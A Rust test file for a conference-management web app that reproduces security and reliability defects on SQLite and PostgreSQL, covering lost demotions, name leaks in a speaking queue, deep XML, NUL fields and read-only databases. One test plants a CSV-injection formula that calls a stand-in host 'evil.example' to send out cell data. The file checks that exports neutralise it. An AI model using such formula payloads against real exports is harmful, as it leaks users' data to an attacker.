//! What an attack and a bad day found (issue 20): each defect reproduced,
//! on both backends where it touches storage.

mod common;

use common::{Backend, SignedIn, TestApp, TestDb};
use convene::{
    domain::{LanguageTag, PersonRole, Viewer, Visibility, directory::NewPerson},
    store::{Actor, Erase, Store},
};
use serde_json::Value;

fn settings() -> convene::ServeSettings {
    convene::ServeSettings {
        sign_ins_per_minute: std::num::NonZeroU32::new(100_000),
        ..Default::default()
    }
}

async fn demo(backend: Backend) -> (TestDb, Store, i64, TestApp) {
    let db = TestDb::new(backend).await;
    let store = db.store().await;
    let id = convene::load_demo(&store).await.unwrap();
    let app = TestApp::spawn_with(store.clone(), settings()).await;
    (db, store, id, app)
}

/// A JSON API call with the session's CSRF token, as the page's script sends it.
async fn api(who: &SignedIn, method: &str, path: &str, body: Value) -> (u16, Value) {
    let response = who
        .client
        .request(
            reqwest::Method::from_bytes(method.as_bytes()).unwrap(),
            format!("{}/api/v1{path}", who.base),
        )
        .header("x-csrf-token", &who.csrf)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

async fn upload_participants(who: &SignedIn, csv: &str) -> (u16, String) {
    let form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("people.csv"),
    );
    let response = who
        .client
        .post(format!(
            "{}/import/participants?csrf={}",
            who.base, who.csrf
        ))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.text().await.unwrap())
}

fn participant(name: &str, visibility: Visibility) -> NewPerson {
    NewPerson {
        display_name: name.to_owned(),
        organisation: None,
        country: None,
        role: PersonRole::Participant,
        languages: vec![LanguageTag::parse("en").unwrap()],
        email: None,
        visibility,
    }
}

// 1 ------------------------------------------------------------------------

async fn a_demoted_organiser_loses_organiser_powers_on_the_next_request(backend: Backend) {
    let (_db, store, id, app) = demo(backend).await;
    let first = app.organiser().await;
    let second_id = store.add_organiser(id, "Second organiser").await.unwrap();
    let second = app.signed_in(second_id).await;
    for path in ["/admin/audit", "/export/people.csv", "/admin/invitations"] {
        assert_eq!(second.get(path).await.status(), 200, "{path} before");
    }

    let (status, page) = upload_participants(
        &first,
        "name,role\r\nSecond organiser,participant\r\nTest organiser,organiser\r\n",
    )
    .await;
    assert_eq!(status, 200, "{page}");
    let person = store.person(id, second_id).await.unwrap().unwrap();
    assert_eq!(person.role, PersonRole::Participant);

    for path in ["/admin/audit", "/export/people.csv", "/admin/invitations"] {
        assert_eq!(second.get(path).await.status(), 403, "{path} after");
    }
    let (status, _) = api(&second, "GET", "/people", Value::Null).await;
    assert_eq!(status, 200, "still a participant");
    let (status, _) = api(&second, "POST", "/rooms", serde_json::json!({"name": "X"})).await;
    assert_eq!(status, 403, "no organiser action through the API either");

    // A list that demotes every organiser is refused, and changes nothing.
    let (status, page) =
        upload_participants(&first, "name,role\nTest organiser,participant\n").await;
    assert_eq!(status, 409, "{page}");
    assert!(page.contains("keep at least one organiser"), "{page}");
    assert_eq!(first.get("/admin/audit").await.status(), 200);
}

on_both_backends!(a_demoted_organiser_loses_organiser_powers_on_the_next_request);

// 2 ------------------------------------------------------------------------

async fn the_speaking_queue_names_people_as_the_directory_does(backend: Backend) {
    let (_db, store, id, app) = demo(backend).await;
    store
        .import_people(
            id,
            &[
                participant("Hidden Speaker", Visibility::Hidden),
                participant("Quiet Speaker", Visibility::Organisers),
                participant("Listed Speaker", Visibility::Listed),
                participant("Onlooker", Visibility::Listed),
            ],
        )
        .await
        .unwrap();
    let session = store
        .sessions(id, Viewer::Organiser)
        .await
        .unwrap()
        .into_iter()
        .find(|s| !s.facilitators.is_empty())
        .unwrap();
    let facilitator = app.signed_in(session.facilitators[0].id).await;
    let s = session.id;
    for name in ["Hidden Speaker", "Quiet Speaker", "Listed Speaker"] {
        let who = app.as_person(name).await;
        let (form, _) = who.text(&format!("/sessions/{s}/floor")).await;
        assert_eq!(form, 200);
        let asked = who
            .post(
                &format!("/sessions/{s}/queue"),
                &[("language", "en"), ("note", &format!("note of {name}"))],
            )
            .await;
        assert_eq!(asked.status(), 303, "{name}");
    }
    let hidden = app.as_person("Hidden Speaker").await;
    let (_, own) = hidden.text(&format!("/sessions/{s}/floor")).await;
    assert!(own.contains("Hidden Speaker") && own.contains("note of Hidden Speaker"));

    let onlooker = app.as_person("Onlooker").await;
    let (_, page) = onlooker.text(&format!("/sessions/{s}/floor")).await;
    assert!(
        page.contains("see your name only if you are listed"),
        "the form says who sees it"
    );
    assert!(page.contains("Listed Speaker"));
    for secret in ["Hidden Speaker", "Quiet Speaker", "note of"] {
        assert!(!page.contains(secret), "a participant sees {secret:?}");
    }
    assert_eq!(page.matches("A participant").count(), 2, "{page}");
    let (_, floor) = api(
        &onlooker,
        "GET",
        &format!("/sessions/{s}/floor"),
        Value::Null,
    )
    .await;
    let queue = floor["queue"].as_array().unwrap();
    let names: Vec<&Value> = queue.iter().map(|r| &r["name"]).collect();
    assert_eq!(
        names,
        [&Value::Null, &Value::Null, &Value::from("Listed Speaker")]
    );
    assert!(queue.iter().all(|r| r["note"] == ""), "{queue:?}");

    let (_, page) = facilitator.text(&format!("/sessions/{s}/floor")).await;
    for seen in ["Hidden Speaker", "Quiet Speaker", "note of Quiet Speaker"] {
        assert!(page.contains(seen), "the facilitator calls {seen:?}");
    }
    let (_, floor) = api(
        &facilitator,
        "GET",
        &format!("/sessions/{s}/floor"),
        Value::Null,
    )
    .await;
    assert_eq!(floor["queue"][0]["name"], "Hidden Speaker");
    assert_eq!(floor["queue"][0]["note"], "note of Hidden Speaker");

    // Called to speak: still unnamed to the room.
    let called = facilitator
        .post(&format!("/sessions/{s}/queue/next"), &[])
        .await;
    assert_eq!(called.status(), 303);
    let (_, floor) = api(
        &onlooker,
        "GET",
        &format!("/sessions/{s}/floor"),
        Value::Null,
    )
    .await;
    assert_eq!(floor["speaking"]["name"], Value::Null);
    let (_, page) = onlooker.text(&format!("/sessions/{s}/floor")).await;
    assert!(!page.contains("Hidden Speaker") && !page.contains("note of"));
}

on_both_backends!(the_speaking_queue_names_people_as_the_directory_does);

// 3 ------------------------------------------------------------------------

async fn deep_xml_is_refused_and_the_server_stays_up(backend: Backend) {
    let (_db, _store, _id, app) = demo(backend).await;
    let organiser = app.organiser().await;
    let deep = format!("<schedule>{}", "<a>".repeat(4_000));
    let response = organiser
        .client
        .post(format!("{}/api/v1/import/program", app.base))
        .header("x-csrf-token", &organiser.csrf)
        .header("content-type", "application/octet-stream")
        .body(deep)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let body: Value = response.json().await.unwrap();
    assert!(
        body.to_string().contains("nested more than 32 deep"),
        "{body}"
    );
    assert_eq!(app.get("/healthz").await.status(), 200, "still serving");
}

on_both_backends!(deep_xml_is_refused_and_the_server_stays_up);

// 4 ------------------------------------------------------------------------

async fn csv_exports_never_carry_a_formula(backend: Backend) {
    let (_db, store, id, app) = demo(backend).await;
    let evil = r#"=HYPERLINK("http://evil.example/?d="&F2,"Amin")"#;
    store
        .import_people(
            id,
            &[
                participant(evil, Visibility::Listed),
                participant("-1+1", Visibility::Listed),
            ],
        )
        .await
        .unwrap();
    let organiser = app.organiser().await;
    let (status, csv) = organiser.text("/export/people.csv").await;
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula in the export: {cell:?}"
            );
        }
    }
    assert!(csv.contains("'=HYPERLINK"), "{csv}");

    // The export imports back to the same names.
    let before: Vec<String> = names(&store, id).await;
    let (status, page) = upload_participants(&organiser, &csv).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(names(&store, id).await, before);
    assert!(before.contains(&evil.to_owned()) && before.contains(&"-1+1".to_owned()));

    // Sign-ups too: a topic titled as a formula, a sign-up by that person.
    let convener = app.as_person(evil).await;
    let (status, topic) = api(
        &convener,
        "POST",
        "/open-space/topics",
        serde_json::json!({"title": "@SUM(1+1)", "language": "en"}),
    )
    .await;
    assert_eq!(status, 201, "{topic}");
    let (_, csv) = organiser.text("/export/signups.csv").await;
    assert!(!csv.lines().any(|l| l.starts_with("@SUM")), "{csv}");
}

on_both_backends!(csv_exports_never_carry_a_formula);

async fn names(store: &Store, id: i64) -> Vec<String> {
    let mut names: Vec<String> = store
        .directory(id, Viewer::Organiser)
        .await
        .unwrap()
        .people
        .into_iter()
        .map(|p| p.display_name)
        .collect();
    names.sort();
    names
}

// 6 ------------------------------------------------------------------------

async fn removing_an_organiser_is_audited_and_never_the_last(backend: Backend) {
    let (_db, store, id, app) = demo(backend).await;
    let first = app.organiser().await;
    let me = store
        .person_id_by_name(id, "Test organiser")
        .await
        .unwrap()
        .unwrap();
    let leaving = store.add_organiser(id, "Leaving organiser").await.unwrap();
    let leaving_session = app.signed_in(leaving).await;

    // Removing oneself: done, audited, and signed out.
    let removed = leaving_session
        .post(&format!("/admin/organisers/{leaving}/remove"), &[])
        .await;
    assert_eq!(removed.status(), 303);
    let log = store.audit_log(id, 50).await.unwrap();
    let entry = log
        .iter()
        .find(|e| e.action == "removed an organiser")
        .expect("an audit entry");
    assert_eq!(entry.detail, "Leaving organiser");
    assert_eq!(entry.actor_name, "a former organiser");
    assert_eq!(leaving_session.get("/admin/audit").await.status(), 303);

    // Erasing the last organiser is refused.
    let refused = first
        .post(&format!("/admin/people/{me}/erase"), &[("confirm", "yes")])
        .await;
    assert_eq!(refused.status(), 400, "not oneself");
    let other = store.add_organiser(id, "Other organiser").await.unwrap();
    let other_session = app.signed_in(other).await;
    let erased = other_session
        .post(&format!("/admin/people/{me}/erase"), &[("confirm", "yes")])
        .await;
    assert_eq!(erased.status(), 303);
    let erasures = |log: &[convene::store::AuditEntry]| {
        log.iter().filter(|e| e.action == "erased a person").count()
    };
    assert_eq!(erasures(&store.audit_log(id, 50).await.unwrap()), 1);
    let now = jiff::Timestamp::now();
    let actor = Actor {
        id: None,
        name: "test",
    };
    assert_eq!(
        store.erase_person(id, other, actor, now).await.unwrap(),
        Erase::LastOrganiser
    );

    // Two organisers erase each other at the same moment: one stays, and
    // every erasure that happened is in the log.
    for round in 0..5 {
        let a = store.add_organiser(id, &format!("A{round}")).await.unwrap();
        let b = store.add_organiser(id, &format!("B{round}")).await.unwrap();
        for o in store.organisers(id).await.unwrap() {
            if o.id != a && o.id != b {
                store.erase_person(id, o.id, actor, now).await.unwrap();
            }
        }
        let before = erasures(&store.audit_log(id, 500).await.unwrap());
        let (x, y) = tokio::join!(
            store.erase_person(
                id,
                a,
                Actor {
                    id: Some(b),
                    name: "B"
                },
                now
            ),
            store.erase_person(
                id,
                b,
                Actor {
                    id: Some(a),
                    name: "A"
                },
                now
            )
        );
        let outcomes = [x.unwrap(), y.unwrap()];
        assert_eq!(store.organisers(id).await.unwrap().len(), 1, "{outcomes:?}");
        assert!(outcomes.contains(&Erase::LastOrganiser), "{outcomes:?}");
        let after = erasures(&store.audit_log(id, 500).await.unwrap());
        assert_eq!(after, before + 1, "one erasure, one entry");
    }
}

on_both_backends!(removing_an_organiser_is_audited_and_never_the_last);

// 7 ------------------------------------------------------------------------

async fn a_nul_character_is_a_400_naming_the_field(backend: Backend) {
    let (_db, store, id, app) = demo(backend).await;
    let organiser = app.organiser().await;
    let amin = app.as_person("Amin Muftiyanah").await;
    let session = store
        .sessions(id, Viewer::Organiser)
        .await
        .unwrap()
        .into_iter()
        .next()
        .unwrap()
        .id;

    // Who posts, where, the form, and the field the answer must name.
    type Case<'a> = (&'a SignedIn, String, Vec<(&'a str, &'a str)>, &'a str);
    let cases: Vec<Case> = vec![
        (
            &amin,
            "/open-space/topics".into(),
            vec![("title", "Safe\0migration"), ("language", "en")],
            "title",
        ),
        (
            &amin,
            format!("/sessions/{session}/questions"),
            vec![("text", "Why\0?"), ("language", "en")],
            "text",
        ),
        (
            &amin,
            format!("/sessions/{session}/queue"),
            vec![("language", "en"), ("note", "a\0b")],
            "note",
        ),
        (
            &amin,
            "/account".into(),
            vec![("display_name", "Amin\0"), ("visibility", "listed")],
            "display_name",
        ),
        (
            &organiser,
            "/admin/rooms".into(),
            vec![("name", "Hall\0B")],
            "name",
        ),
    ];
    for (who, path, form, field) in cases {
        let response = who.post(&path, &form).await;
        assert_eq!(response.status(), 400, "{path}");
        let page = response.text().await.unwrap();
        assert!(
            page.contains(&format!("The field &#34;{field}&#34; contains a NUL")),
            "{path}: {page}"
        );
    }
    let (status, body) = api(
        &amin,
        "POST",
        &format!("/sessions/{session}/questions"),
        serde_json::json!({"text": "Why\u{0}?", "language": "en"}),
    )
    .await;
    assert_eq!(status, 400);
    assert!(
        body["error"].as_str().unwrap().contains("\"text\""),
        "{body}"
    );
    let response = amin.get("/people?q=a%00").await;
    assert_eq!(response.status(), 400);
    assert!(
        store
            .person_id_by_name(id, "Amin Muftiyanah")
            .await
            .unwrap()
            .is_some(),
        "the name did not change"
    );
    let floor = store.floor(session).await.unwrap();
    assert!(floor.questions.is_empty() && floor.requests.is_empty());
}

on_both_backends!(a_nul_character_is_a_400_naming_the_field);

// 8 ------------------------------------------------------------------------

/// A database that refuses writes (a read-only replica, a full disk that
/// PostgreSQL reports alike): the health check says why, pages say the
/// server cannot save, and both recover when the database does.
#[tokio::test]
async fn a_database_that_cannot_save_is_reported() {
    let (db, _store, id, app) = demo(Backend::Postgres).await;
    let amin = app.as_person("Amin Muftiyanah").await;
    let health = app.get("/healthz").await;
    assert_eq!(health.status(), 200);

    let name = db.cli_url().rsplit('/').next().unwrap().to_owned();
    let admin = common::postgres_admin_url();
    let set_read_only = |on: bool| {
        let (admin, name) = (admin.clone(), name.clone());
        async move {
            use sqlx::Connection;
            let mut conn = sqlx::PgConnection::connect(&admin).await.unwrap();
            sqlx::query(&format!(
                "ALTER DATABASE {name} SET default_transaction_read_only = {}",
                if on { "on" } else { "off" }
            ))
            .execute(&mut conn)
            .await
            .unwrap();
            sqlx::query(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1",
            )
            .bind(&name)
            .execute(&mut conn)
            .await
            .unwrap();
        }
    };
    set_read_only(true).await;
    let reason = common::eventually(std::time::Duration::from_secs(20), || async {
        let response = app.get("/healthz").await;
        if response.status() != 503 {
            return None;
        }
        let body: Value = response.json().await.unwrap();
        body["reason"].as_str().map(str::to_owned)
    })
    .await;
    assert!(reason.contains("read-only"), "{reason}");
    let topic = common::eventually(std::time::Duration::from_secs(20), || async {
        let response = amin
            .post(
                "/open-space/topics",
                &[("title", "Saved?"), ("language", "en")],
            )
            .await;
        (response.status() == 503).then_some(response)
    })
    .await;
    let page = topic.text().await.unwrap();
    assert!(page.contains("The server cannot save right now"), "{page}");
    let _ = id;

    set_read_only(false).await;
    common::eventually(std::time::Duration::from_secs(20), || async {
        (app.get("/healthz").await.status() == 200).then_some(())
    })
    .await;
}

#[tokio::test]
async fn a_read_only_sqlite_file_is_named_as_the_reason() {
    use sqlx::{ConnectOptions, sqlite::SqliteConnectOptions};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ro.db");
    let store = Store::open(&convene::store::DatabaseUrl::SqliteFile(
        path.to_string_lossy().into_owned(),
    ))
    .await
    .unwrap();
    store.close().await;
    let mut conn = SqliteConnectOptions::new()
        .filename(&path)
        .read_only(true)
        .connect()
        .await
        .unwrap();
    let error = sqlx::query("INSERT INTO write_probe (id, probed_at) VALUES (1, 1)")
        .execute(&mut conn)
        .await
        .unwrap_err();
    let error = convene::store::StoreError::from(error);
    assert_eq!(error.cannot_save(), Some("the database file is read-only"));
}

// 9 ------------------------------------------------------------------------

async fn windows_files_report_the_right_line(backend: Backend) {
    let (_db, _store, _id, app) = demo(backend).await;
    let organiser = app.organiser().await;
    let (status, page) = upload_participants(&organiser, "name,country\r\nA,AR\r\n,AR\r\n").await;
    assert_eq!(status, 422, "{page}");
    assert!(page.contains("line 3, column name"), "{page}");
}

on_both_backends!(windows_files_report_the_right_line);

// 10 -----------------------------------------------------------------------

#[tokio::test]
async fn headers_and_the_api_contract() {
    let (_db, store, _id, app) = demo(Backend::Sqlite).await;
    let plain = app.get("/").await;
    assert!(plain.headers().get("strict-transport-security").is_none());
    let https = TestApp::spawn_with(
        store.clone(),
        convene::ServeSettings {
            public_url: Some("https://convene.example.org".into()),
            ..settings()
        },
    )
    .await;
    let hsts = https.get("/signin").await;
    assert_eq!(
        hsts.headers()["strict-transport-security"],
        "max-age=31536000"
    );

    // A refused CSRF check on the API answers JSON.
    let amin = app.as_person("Amin Muftiyanah").await;
    let response = amin
        .client
        .post(format!("{}/api/v1/open-space/topics", app.base))
        .json(&serde_json::json!({"title": "x", "language": "en"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    let body: Value = response.json().await.unwrap();
    assert!(body["error"].is_string(), "{body}");

    // A method the path does not take: 405 with Allow, JSON on the API.
    let response = app
        .client
        .delete(format!("{}/api/v1/consultation", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 405);
    assert_eq!(response.headers()["allow"], "GET, PUT, HEAD");
    let body: Value = response.json().await.unwrap();
    assert!(body["error"].is_string());

    // Every operation documents the common answers.
    let doc: Value = app.get("/api/v1/openapi.json").await.json().await.unwrap();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, op) in item.as_object().unwrap() {
            let responses = op["responses"].as_object().unwrap();
            for status in ["400", "405", "503"] {
                assert!(responses.contains_key(status), "{method} {path}: {status}");
            }
            if method != "get" {
                assert!(responses.contains_key("429"), "{method} {path}: 429");
            }
        }
    }

    // A 409 from a join always lists the tables with room.
    let (status, topic) = api(
        &amin,
        "POST",
        "/open-space/topics",
        serde_json::json!({"title": "Not placed", "language": "en"}),
    )
    .await;
    assert_eq!(status, 201, "{topic}");
    let (status, body) = api(
        &amin,
        "POST",
        &format!("/topics/{}/join", topic["id"]),
        Value::Null,
    )
    .await;
    assert_eq!(status, 409);
    assert!(body["tables_with_room"].is_array(), "{body}");
}
